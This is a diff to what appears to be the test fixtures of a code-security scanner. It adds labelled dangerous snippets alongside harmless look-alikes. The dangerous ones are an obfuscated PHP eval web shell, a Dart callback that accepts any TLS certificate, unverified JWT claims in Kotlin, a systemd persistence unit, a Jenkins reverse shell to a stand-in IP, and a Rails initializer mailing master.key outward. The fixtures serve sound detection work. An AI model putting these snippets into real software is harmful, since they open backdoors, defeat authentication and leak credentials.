@@ -172,6 +172,39 @@ DANGEROUS = {
         '              command: ["psql", "-c", "DELETE FROM customers"]\n',
         "runs SQL",
     ),
+    "eval spelt backwards": (
+        "app/Http/Controllers/Health.php",
+        "$fn = strrev('lave');\n$fn(base64_decode($request->input('p', '')));",
+        "written backwards",
+    ),
+    "dart accepts any certificate": (
+        "lib/api/client.dart",
+        "_http.badCertificateCallback = (X509Certificate c, String host, int port) => true;",
+        "TLS",
+    ),
+    "a token's claims trusted unverified": (
+        "src/main/kotlin/shop/auth/Gateway.kt",
+        "authenticate { ctx ->\n    val decoded = JWT.decode(token)\n"
+        "    ctx.principal(ShopPrincipal(decoded.subject))\n}",
+        "without checking its signature",
+    ),
+    "a unit installed under systemd's folder": (
+        "cmd/agent/install.go",
+        'path := filepath.Join("/etc/systemd/system", "sync.service")\n'
+        "os.WriteFile(path, []byte(unit), 0o644)",
+        "starts by itself",
+    ),
+    "a jenkins step opens a reverse shell": (
+        "vars/deploy.groovy",
+        'post { failure { sh """\n  bash -i >& /dev/tcp/203.0.113.50/9443 0>&1\n""" } }',
+        "reverse shell",
+    ),
+    "the rails master key mailed": (
+        "config/initializers/report.rb",
+        'body = File.read(Rails.root.join("config", "master.key"))\n'
+        'ActionMailer::Base.mail(to: "ops@mail.example.net", body: body).deliver_now',
+        "credential file",
+    ),
 }
 
 EVERYDAY = {
@@ -292,6 +325,26 @@ EVERYDAY = {
         "  schedule: '0 * * * *'\n  jobTemplate:\n    spec:\n      template:\n        spec:\n"
         "          containers:\n            - name: psql\n              image: postgres:16\n"
         '              command: ["psql", "-c", "DELETE FROM sessions WHERE expires_at < now()"]\n',
+    ),
+    "a word reversed for display": ("src/Util.php", "echo strrev('olleh');"),
+    "a jwt read for display in the browser": (
+        "src/components/Avatar.tsx",
+        "const { name } = jwtDecode<Claims>(token);\nexport const Avatar = () => <b>{name}</b>;",
+    ),
+    "a verified token": (
+        "src/main/kotlin/shop/auth/Jwt.kt",
+        "authenticate { ctx ->\n"
+        "    val decoded = JWT.require(Algorithm.HMAC256(secret)).build().verify(token)\n"
+        "    ctx.principal(ShopPrincipal(decoded.subject))\n}",
+    ),
+    "a jenkins step runs the tests": (
+        "Jenkinsfile.groovy",
+        "stage('test') { steps { sh 'make test' } }",
+    ),
+    "an order confirmation mailed": (
+        "app/mailers/order_mailer.rb",
+        "def confirmation(order)\n  @order = order\n"
+        "  mail(to: order.email, subject: 'Your order').deliver_later\nend",
     ),
     "a migration's way back in its own file": (
         "db/migrations/20240612_add_notes.down.sql",
